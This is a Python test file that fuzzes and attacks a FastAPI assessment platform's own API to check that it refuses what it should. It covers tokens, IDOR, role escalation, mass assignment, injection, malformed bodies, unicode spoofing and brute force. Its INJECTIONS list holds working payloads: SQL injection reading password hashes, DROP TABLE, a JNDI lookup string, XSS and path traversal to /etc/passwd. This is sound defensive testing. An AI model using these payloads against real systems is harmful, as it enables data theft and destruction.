"""A repeatable hostile-input sweep (issue 10), tried as an attacker would.

1. schemathesis over the whole OpenAPI document: positive and negative examples for every
   operation, sent anonymously and as a learner, a bounded number per operation.
2. Targeted cases: forged/expired/revoked/malformed tokens on every protected route, IDOR on every
   route with an id, role escalation and mass assignment, injection through every string
   parameter, oversize and malformed bodies, unicode edge cases, throttled brute force.

Every case counts as tried; as rejected when the API refused it the way it should; as got
through otherwise (a 5xx, a 2xx where a refusal was due, a failed schemathesis check). Each test
prints its counts and fails when anything got through. Run with `-- -s` to see the table.
"""

from __future__ import annotations

import contextlib
import json
import re
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import pytest
import schemathesis
from fastapi import FastAPI
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis.errors import Unsatisfiable
from schemathesis import GenerationMode
from schemathesis.checks import (
    negative_data_rejection,
    not_a_server_error,
    response_schema_conformance,
)
from sqlalchemy import Engine, func, select

from repo_api.app import create_app
from repo_api_tests.conftest import make_settings
from repo_api_tests.helpers import (
    ApiUser,
    create_assessment,
    flag_ai_grade,
    make_user,
    submitted_attempt,
)
from repo_db import unit_of_work
from repo_db.models import Feedback, User
from repo_db.testing import truncate_all
from repo_http.testing import Tally

# Examples per operation, mode and identity: ~20 operations x 2 modes x 2 identities x 6 keeps the
# schemathesis part around a minute on 2 cores (Argon2 on /auth/* is the slow part).
EXAMPLES_PER_OPERATION = 6
# Routes anybody may call (no token needed).
PUBLIC_ROUTES = {"/auth/register", "/auth/login", "/healthz", "/readyz", "/livez"}


@pytest.fixture()
def sweep_app(db_engine: Engine) -> Iterator[FastAPI]:
    try:
        yield create_app(engine=db_engine, settings=make_settings(max_body_bytes=256 * 1024))
    finally:
        truncate_all(db_engine)


def _is_error_json(response: Any) -> bool:
    try:
        body = response.json()
    except ValueError:
        return False
    return isinstance(body, dict) and set(body) == {"error"} and "code" in body["error"]


# --- 1. schemathesis over the whole OpenAPI document ----------------------------------------

CHECKS = [not_a_server_error, response_schema_conformance, negative_data_rejection]


def _sweep(
    operation: Any, *, mode: GenerationMode, identity: str, headers: dict[str, str], tally: Tally
) -> None:
    label = f"{operation.method.upper()} {operation.path}"
    protected = operation.path not in PUBLIC_ROUTES

    @settings(
        max_examples=EXAMPLES_PER_OPERATION,
        deadline=None,
        database=None,
        derandomize=True,
        suppress_health_check=list(HealthCheck),
    )
    @given(case=operation.as_strategy(generation_mode=mode))
    def run(case: Any) -> None:
        response = case.call(headers=dict(headers))
        failure = ""
        try:
            case.validate_response(response, checks=CHECKS)
        except Exception as exc:  # schemathesis raises a FailureGroup naming the checks
            failure = re.sub(r"\s+", " ", str(exc))[:300]
        bypass = protected and identity == "anonymous" and response.status_code < 400
        tally.record(
            f"{mode.value}/{identity}",
            rejected=not failure and not bypass,
            what=f"{label} -> {response.status_code} {failure or 'auth bypass'}",
        )

    with contextlib.suppress(Unsatisfiable):  # negative mode, nothing to make invalid
        run()


def test_schemathesis_sweep(sweep_app: FastAPI, db_engine: Engine) -> None:
    if db_engine.dialect.name != "postgresql":
        pytest.skip("the generated sweep runs once, on PostgreSQL (the stricter database)")
    author = make_user(db_engine, role="author")
    learner = make_user(db_engine)
    with TestClient(sweep_app) as client:
        create_assessment(client, author)  # something real for ids to hit
    schema = schemathesis.openapi.from_asgi("/openapi.json", sweep_app)
    tally = Tally("schemathesis")
    identities = {"anonymous": {}, "learner": learner.headers}
    began = time.perf_counter()
    for result in schema.get_all_operations():
        operation = result.ok()  # type: ignore[union-attr]  # an Err would raise: fine here
        for mode in (GenerationMode.POSITIVE, GenerationMode.NEGATIVE):
            for identity, headers in identities.items():
                _sweep(operation, mode=mode, identity=identity, headers=headers, tally=tally)
    elapsed = time.perf_counter() - began
    print(f"\nschemathesis sweep: {elapsed:.1f}s")
    tally.assert_nothing_through()


# --- 2. targeted cases ----------------------------------------------------------------------

INJECTIONS = [
    "' OR '1'='1",
    "'; DROP TABLE users;--",
    '" OR ""="',
    "1; SELECT pg_sleep(5)--",
    "%",
    "_",
    "\\",
    "%' UNION SELECT email, password_hash FROM users--",
    "{{7*7}}",
    "${jndi:ldap://x/a}",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "\u202egnp.exe",
    "x" * 5000,
]


@dataclass
class World:
    """Two of everything, so that every id route has a victim and an attacker."""

    author: ApiUser
    other_author: ApiUser
    learner: ApiUser
    other_learner: ApiUser
    admin: ApiUser
    draft: dict[str, Any]
    published: dict[str, Any]
    attempt_id: int
    feedback_id: int
    group_id: int
    decision_id: int
    spec: dict[str, Any]

    def path_values(self) -> dict[str, int]:
        return {
            "assessment_id": self.draft["id"],
            "attempt_id": self.attempt_id,
            "question_id": self.published["questions"][2]["id"],
            "user_id": self.learner.id,
            # a flagged AI grade on the author's assessment: only that author may review it
            "feedback_id": self.feedback_id,
            # its review group (a group of one), and the author's decision on another group
            "group_id": self.group_id,
            "decision_id": self.decision_id,
        }


def _world(client: TestClient, db_engine: Engine) -> World:
    author = make_user(db_engine, role="author")
    learner = make_user(db_engine)
    draft = create_assessment(client, author, title="Secret draft", publish=False)
    published = create_assessment(client, author, title="Public")
    started = client.post(f"/assessments/{published['id']}/attempts", headers=learner.headers)
    assert started.status_code == 201
    graded_learner = make_user(db_engine)
    feedback_id = flag_ai_grade(db_engine, submitted_attempt(client, graded_learner, published))
    decided_id = flag_ai_grade(
        db_engine, submitted_attempt(client, make_user(db_engine), published)
    )
    with unit_of_work(read_only=True, bind=db_engine) as session:
        group_id, decided_group = (
            session.scalars(select(Feedback.response_id).where(Feedback.id == i)).one()
            for i in (feedback_id, decided_id)
        )
    decision = client.post(
        f"/review-groups/{decided_group}", json={"score": 1}, headers=author.headers
    )
    assert decision.status_code == 200, decision.text
    return World(
        author=author,
        other_author=make_user(db_engine, role="author"),
        learner=learner,
        other_learner=make_user(db_engine),
        admin=make_user(db_engine, role="admin"),
        draft=draft,
        published=published,
        attempt_id=started.json()["id"],
        feedback_id=feedback_id,
        group_id=group_id,
        decision_id=decision.json()["id"],
        spec=client.get("/openapi.json").json(),
    )


def _operations(spec: dict[str, Any]) -> Iterator[tuple[str, str, dict[str, Any]]]:
    for path, item in spec["paths"].items():
        for method, operation in item.items():
            if method in {"get", "post", "put", "patch", "delete"}:
                yield method, path, operation


# A valid body per route, so that validation never answers before authorization would.
VALID_BODIES: dict[str, Any] = {
    "/assessments": {"title": "t"},
    "/assessments/{assessment_id}": {"title": "pwned"},
    "/assessments/{assessment_id}/questions": {
        "kind": "numeric",
        "prompt": "?",
        "numeric_answer": 1,
    },
    "/assessments/{assessment_id}/questions/{question_id}": {
        "kind": "numeric",
        "prompt": "pwned",
        "numeric_answer": 1,
    },
    "/assessments/{assessment_id}/questions/{question_id}/move": {"position": 0},
    "/attempts/{attempt_id}/responses/{question_id}": {"numeric_value": 1},
    "/admin/users/{user_id}": {"role": "admin", "is_active": False},
    "/reviews/{feedback_id}": {"score": 100, "comment": "full marks"},
    "/review-groups/{group_id}": {"score": 100, "comment": "full marks"},
    "/auth/register": {
        "email": "n@example.org",
        "password": "a-fine-passphrase",
        "display_name": "N",
    },
    "/auth/login": {"email": "n@example.org", "password": "a-fine-passphrase"},
}


def _call(
    client: TestClient, method: str, path: str, values: dict[str, int], headers: dict[str, Any]
) -> Any:
    url = path.format(**values)
    body = VALID_BODIES.get(path) if method in {"post", "put", "patch"} else None
    return client.request(method.upper(), url, json=body, headers=headers)


def test_targeted_hostile_inputs(client: TestClient, db_engine: Engine) -> None:
    world = _world(client, db_engine)
    tally = Tally("targeted")
    values = world.path_values()
    protected = [(m, p) for m, p, _ in _operations(world.spec) if p not in PUBLIC_ROUTES]

    # Tokens: missing, forged, expired, revoked, deactivated, wrong scheme, oversized, non-ASCII.
    expired = make_user(db_engine, ttl=timedelta(hours=-1))
    revoked = make_user(db_engine)
    assert client.post("/auth/logout", headers=revoked.headers).status_code == 204
    deactivated = make_user(db_engine, is_active=False)
    token_variants: dict[str, dict[str, Any]] = {
        "missing": {},
        "forged": {"Authorization": "Bearer " + "A" * 43},
        "expired": expired.headers,
        "revoked": revoked.headers,
        "deactivated": deactivated.headers,
        "basic-scheme": {"Authorization": "Basic YWRtaW46YWRtaW4="},
        "oversized": {"Authorization": "Bearer " + "a" * 8000},
        "non-ascii": {"Authorization": "Bearer t\u00f6ken".encode("latin-1")},
        "sql-in-token": {"Authorization": "Bearer ' OR 1=1--"},
    }
    for name, headers in token_variants.items():
        for method, path in protected:
            response = _call(client, method, path, values, headers)
            tally.record(
                "token",
                rejected=response.status_code == 401 and _is_error_json(response),
                what=f"{name} {method.upper()} {path} -> {response.status_code}",
            )

    # IDOR: every route with an id, the victim's ids, another learner and another author.
    for attacker in (world.other_learner, world.other_author):
        for method, path in protected:
            if "{" not in path:
                continue
            response = _call(client, method, path, values, attacker.headers)
            tally.record(
                "idor",
                rejected=response.status_code in (403, 404) and _is_error_json(response),
                what=f"{attacker.role} {method.upper()} {path} -> {response.status_code}",
            )
    # Role escalation and mass assignment.
    escalations = [
        ("patch", f"/admin/users/{world.other_learner.id}", {"role": "admin"}, world.other_learner),
        ("patch", f"/admin/users/{world.learner.id}", {"is_active": False}, world.author),
        ("post", "/assessments", {"title": "x"}, world.learner),
        ("post", f"/assessments/{world.draft['id']}/publish", None, world.learner),
    ]
    for method, url, body, who in escalations:
        response = client.request(method.upper(), url, json=body, headers=who.headers)
        tally.record(
            "escalation",
            rejected=response.status_code in (403, 404),
            what=f"{who.role} {method.upper()} {url} -> {response.status_code}",
        )
    mass = client.post(
        "/auth/register",
        json={
            "email": "mass@example.org",
            "password": "a-fine-passphrase",
            "display_name": "M",
            "role": "admin",
            "is_active": True,
            "id": 1,
        },
    )
    with unit_of_work(read_only=True, bind=db_engine) as session:
        role = session.scalar(select(User.role).where(User.email == "mass@example.org"))
    tally.record(
        "escalation",
        rejected=mass.status_code == 201 and role == "learner",
        what=f"mass assignment role={role}",
    )

    # Injection through every string parameter (query strings and JSON bodies).
    users_before = _count_users(db_engine)
    for payload in INJECTIONS:
        search = client.get(
            "/assessments", params={"q": payload[:100]}, headers=world.learner.headers
        )
        matched = search.json().get("items", []) if search.status_code == 200 else []
        tally.record(
            "injection",
            rejected=search.status_code in (200, 422) and matched == [],
            what=f"GET /assessments?q={payload[:30]!r} -> {search.status_code} {len(matched)}",
        )
        admin_search = client.get(
            "/admin/users", params={"q": payload[:100]}, headers=world.admin.headers
        )
        found = admin_search.json().get("items", []) if admin_search.status_code == 200 else []
        tally.record(
            "injection",
            rejected=admin_search.status_code in (200, 422) and found == [],
            what=f"GET /admin/users?q={payload[:30]!r} -> {admin_search.status_code} {len(found)}",
        )
        bodies = [
            ("post", "/auth/login", {"email": payload, "password": payload}, {}),
            (
                "post",
                "/auth/register",
                {
                    "email": f"{payload}@x.io",
                    "password": "a-fine-passphrase",
                    "display_name": payload[:100],
                },
                {},
            ),
            (
                "post",
                "/assessments",
                {"title": payload[:200], "description": payload},
                world.author.headers,
            ),
            (
                "patch",
                f"/assessments/{world.draft['id']}",
                {"description": payload},
                world.author.headers,
            ),
            (
                "put",
                f"/attempts/{world.attempt_id}/responses/{world.published['questions'][3]['id']}",
                {"text_value": payload},
                world.learner.headers,
            ),
        ]
        for method, url, body, headers in bodies:
            response = client.request(method.upper(), url, json=body, headers=headers)
            tally.record(
                "injection",
                # Stored literally or refused; never a server error (checked: tables intact).
                rejected=response.status_code < 500,
                what=f"{method.upper()} {url} {payload[:30]!r} -> {response.status_code}",
            )
    users_after = _count_users(db_engine)
    tally.record("injection", rejected=users_after >= users_before, what="users table intact")

    # Oversize and malformed bodies on every route that takes one.
    writes = [(m, p) for m, p, op in _operations(world.spec) if "requestBody" in op]
    big = b'{"title": "' + b"x" * (2 * 1024 * 1024) + b'"}'
    malformed: dict[str, tuple[bytes | Callable[[], Iterator[bytes]], str]] = {
        "2 MiB declared": (big, "application/json"),
        "2 MiB chunked": (
            lambda: iter([big[i : i + 65536] for i in range(0, len(big), 65536)]),
            "application/json",
        ),
        "not json": (b"{not json", "application/json"),
        "deep nesting": (b"[" * 200_000 + b"]" * 200_000, "application/json"),
        "huge number": (
            b'{"title": 1e400, "numeric_value": 1e400, "email": 1e400, "display_name": 1e400}',
            "application/json",
        ),
        "invalid utf-8": (
            b'{"email": "\xc0\xaf\xff", "title": "\xed\xa0\x80"}',
            "application/json",
        ),
        "wrong type": (b"email=a&password=b", "application/x-www-form-urlencoded"),
        "json array": (b"[1, 2, 3]", "application/json"),
        "nul bytes": (
            b'{"title": "a\\u0000b", "email": "a\\u0000@x.io", "text_value": "\\u0000", '
            b'"display_name": "\\u0000"}',
            "application/json",
        ),
    }
    for method, path in writes:
        url = path.format(**values)
        for name, (content, content_type) in malformed.items():
            data = content() if callable(content) else content
            response = client.request(
                method.upper(),
                url,
                content=data,
                headers={"Content-Type": content_type, **world.admin.headers},
            )
            tally.record(
                "body",
                rejected=400 <= response.status_code < 500 and _is_error_json(response),
                what=f"{name} {method.upper()} {path} -> {response.status_code}",
            )

    # Unicode edge cases on the identity fields.
    base = {"password": "a-fine-passphrase", "display_name": "U"}
    refused_emails = [
        "\u0430dmin@example.com",  # Cyrillic a
        "admin@ex\u0430mple.com",
        "adm\u0131n@example.com",  # dotless i
        "admin\u200b@example.com",  # zero-width space
        "admin@example.com\u0000",
        "\ud800@example.com",
        "admin@\u2024example.com",  # one dot leader
    ]
    for email in refused_emails:
        response = _post_json(client, "/auth/register", {**base, "email": email})
        tally.record(
            "unicode",
            rejected=response.status_code == 422,
            what=f"{email!r} -> {response.status_code}",
        )
    for display_name in ("Zoë 🎓", "e\u0301", "\u202eevil", "名前"):
        email = f"u{abs(hash(display_name)) % 10_000}@example.org"
        response = client.post(
            "/auth/register", json={**base, "email": email, "display_name": display_name}
        )
        with unit_of_work(read_only=True, bind=db_engine) as session:
            stored = session.scalar(select(User.display_name).where(User.email == email))
        tally.record(
            "unicode",
            rejected=response.status_code == 201 and stored == display_name,
            what=f"display name {display_name!r} stored as {stored!r}",
        )

    tally.assert_nothing_through()


def test_brute_force_is_throttled(db_engine: Engine) -> None:
    """Issue 10: 100 wrong passwords then the right one used to answer 200."""
    victim = make_user(db_engine)
    app = create_app(
        engine=db_engine,
        settings=make_settings(
            login_failures_per_account="10 per 15 minutes", login_rate_per_address="1000/minute"
        ),
    )
    tally = Tally("brute force")
    try:
        with TestClient(app) as client:
            for i in range(30):
                response = client.post(
                    "/auth/login", json={"email": victim.email, "password": f"guess{i}"}
                )
                tally.record(
                    "wrong password",
                    rejected=response.status_code in (401, 429),
                    what=str(response.status_code),
                )
            right = client.post(
                "/auth/login", json={"email": victim.email, "password": "correct-horse-battery"}
            )
            tally.record(
                "right password after",
                rejected=right.status_code == 429,
                what=f"-> {right.status_code}",
            )
    finally:
        truncate_all(db_engine)
    tally.assert_nothing_through()


def _body_fields(spec: dict[str, Any], operation: dict[str, Any]) -> list[str]:
    """The JSON body's property names, from the OpenAPI document (its $ref, one level)."""
    content = operation.get("requestBody", {}).get("content", {})
    schema = content.get("application/json", {}).get("schema", {})
    ref = schema.get("$ref", "")
    if ref:
        schema = spec["components"]["schemas"][ref.rsplit("/", 1)[-1]]
    return sorted(schema.get("properties", {}))


class Markers:
    """Unique lowercase text per case, so that a copy of it in a response is unmistakable."""

    def __init__(self) -> None:
        self.n = 0

    def __call__(self) -> str:
        self.n += 1
        return f"echo{self.n:05d}zq"


def test_error_bodies_never_echo_input(client: TestClient, db_engine: Engine) -> None:
    """A unique marker in every path parameter, query parameter and body field (as plain text,
    as an email-like value, as a number's text, as an unknown key, and as the whole body) of
    every operation: an error answer (4xx/5xx) must not carry it back. pydantic's own messages
    used to quote it (email-validator names the characters it refused) and its `input`/`ctx`
    are the value itself. A 2xx that stores and returns what was sent (a title) is not an error
    body and is not counted. Error bodies do not depend on the database: it runs once, on
    PostgreSQL, to keep the file within its time limit on a busy 2-core machine."""
    if db_engine.dialect.name != "postgresql":
        pytest.skip("the echo sweep runs once, on PostgreSQL")
    world = _world(client, db_engine)
    tally = Tally("echo")
    values = world.path_values()
    marker = Markers()
    headers = world.admin.headers

    def check(method: str, url: str, what: str, mark: str, **kwargs: Any) -> None:
        sent = {**headers, **kwargs.pop("headers", {})}
        response = client.request(method.upper(), url, headers=sent, **kwargs)
        echoed = response.status_code >= 400 and mark in response.text.lower()
        tally.record(
            "echo",
            rejected=response.status_code < 500 and not echoed,
            what=f"{what} {method.upper()} {url[:60]} -> {response.status_code} "
            f"{response.text[:120]}",
        )

    for method, path, operation in _operations(world.spec):
        url = path.format(**values)
        for parameter in operation.get("parameters", []):
            mark = marker()
            if parameter["in"] == "path":
                check(method, path.format(**{**values, parameter["name"]: mark}), "path", mark)
            elif parameter["in"] == "query":
                for value in (mark, f"{mark}<'\"", f"-1{mark}"):
                    check(method, url, "query", mark, params={parameter["name"]: value})
        fields = _body_fields(world.spec, operation)
        if not fields:
            continue
        valid = VALID_BODIES.get(path) or {}
        for name in fields:
            mark = marker()
            values_sent: list[Any] = [mark, f"{mark}<@>x.io", f"1e{mark}", [mark], {mark: mark}]
            for value in values_sent:
                check(method, url, f"body.{name}", mark, json={**valid, name: value})
        mark = marker()
        check(method, url, "unknown key", mark, json={**valid, mark: mark})
        mark = marker()
        check(
            method,
            url,
            "not json",
            mark,
            content=f'{{"{mark}": {mark}'.encode(),
            headers={"Content-Type": "application/json"},
        )
    tally.assert_nothing_through()


def _post_json(client: TestClient, url: str, body: Any) -> Any:
    """JSON with \\u escapes (ensure_ascii), so lone surrogates reach the server as JSON does."""
    return client.post(
        url, content=json.dumps(body).encode(), headers={"Content-Type": "application/json"}
    )


def _count_users(db_engine: Engine) -> int:
    with unit_of_work(read_only=True, bind=db_engine) as session:
        return int(session.scalar(select(func.count()).select_from(User)) or 0)
